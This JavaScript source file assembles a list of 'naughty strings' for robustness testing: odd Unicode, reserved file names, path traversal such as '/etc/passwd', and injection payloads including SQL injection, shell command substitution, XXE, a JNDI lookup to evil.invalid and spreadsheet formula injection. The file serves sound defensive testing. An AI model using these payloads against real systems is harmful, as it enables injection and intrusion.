import { everyInjection } from './injections.js';

/** Control characters, ASCII signs and invisible characters, as ranges of code units. */
const odd =
  '0-2f 3a-40 5b-60 7b-a0 2000-200f 2028-202f 205f-206f d7fe-d801 dbfe-dc01 dffe-e001 fdd0-fdd4 fe00-fe0f fff9-ffff';
const oddCharacters = odd.split(' ').flatMap((range) => {
  const [from = 0, to = 0] = range.split('-').map((it) => parseInt(it, 16));
  return Array.from({ length: to - from + 1 }, (_, at) =>
    String.fromCharCode(from + at),
  );
});

/** Strings that programs stumble over, each once; none is empty or begins with a dash. */
export const naughtyStrings: readonly string[] = [
  ...new Set([
    ...everyInjection,
    ...oddCharacters,
    // What objects have already.
    ...Object.getOwnPropertyNames(Object.prototype),
    ...Object.getOwnPropertyNames(Array.prototype).slice(0, 12),
    ...['prototype', 'then', 'name', 'inputs', 'Name', 'arguments', 'caller'],
    // Values as text.
    ...['undefined', 'null', 'NULL', 'nil', 'None', 'true', 'False', 'NaN'],
    ...['Infinity', '-0', '0x10', '1e999', '1_000', '1,000.5', '٣', '½', '１'],
    ...['9007199254740993', '1.0', '.5', '0b1', '08', '1/0', '2026-02-30'],
    // Names that systems keep for themselves, and paths.
    ...['CON', 'nul.json', 'COM1', 'aux', 'LPT1.txt', '$MFT', '~', '~root'],
    ...['.', '..', '...', '/', '\\', '/etc/passwd', '..\\..\\x', 'a/../../b'],
    ...['/dev/null', 'file.json/', '%00', 'C:', '.git/config', 'a:b', '*?<>|'],
    ...['node_modules', 'package.json', 'dist/../..', '\\\\?\\C:\\x', './-'],
    // Languages that something might run.
    ...[
      "' OR '1'='1",
      "'; DROP TABLE a;--",
      '1;SELECT pg_sleep(9)',
      '" or ""="',
    ],
    ...'$(id) `id` ${x} #{x} {{7*7}} %s%n%x %d {0} %@ $IFS !! \\$x ~+ $HOME &x;'.split(
      ' ',
    ),
    ...['| id', '&& id', '; id', '> /tmp/x', '<?php x ?>', '<% x %>'],
    ...['<!ENTITY x SYSTEM "file:///x">', '${jndi:ldap://evil.invalid/x}'],
    ..."=1+1 @SUM(1) +1+cmd|x $1 $& $' $` $$ $<name> (?:a+)+$ [ ] ( * ** ? !(a)".split(
      ' ',
    ),
    // Scripts, and what is one character for people.
    ...['åäö', 'ﬀ', 'İı', 'ß', 'ǅ', 'Ω', 'е́', 'a\u0300'.repeat(50), 'Z̶͈̀a̷l̵g̸o̶'],
    ...'田中さん 사회과학원 עברית ไทย हिन्दी 𝕿𝖍𝖊 𠜎𠜱'.split(' '),
    'ثم نفس',
    ...['👩‍👩‍👧‍👦', '🏳️‍🌈', '👍🏿', '🇩🇪🇫🇷', '1️⃣', '❤️', '\u{1f3fb}', '🧑‍💻'.repeat(40)],
    ...'\u{10ffff} \u{e0001} \u{1d173} a\ud800 \udc00a \udc00\ud800'.split(' '),
    // Spaces and lengths.
    ...[
      ' a',
      'a ',
      'a  b',
      '\ta',
      'a\n',
      '\r\n',
      'a\n\n\nb',
      '\u3000',
      '\u00a0x',
    ],
    ...'" "" \'\' \\ \\\\ \\" \\u0000 \\x // /* */'.split(' '),
    ...[2, 80, 255, 256, 4096, 65_537].map((length) => 'y'.repeat(length)),
    'é'.repeat(128),
    '\u202e'.repeat(1000),
    '{'.repeat(1000),
    '"\\'.repeat(1000),
  ]),
].filter((text) => text !== '' && !text.startsWith('-'));
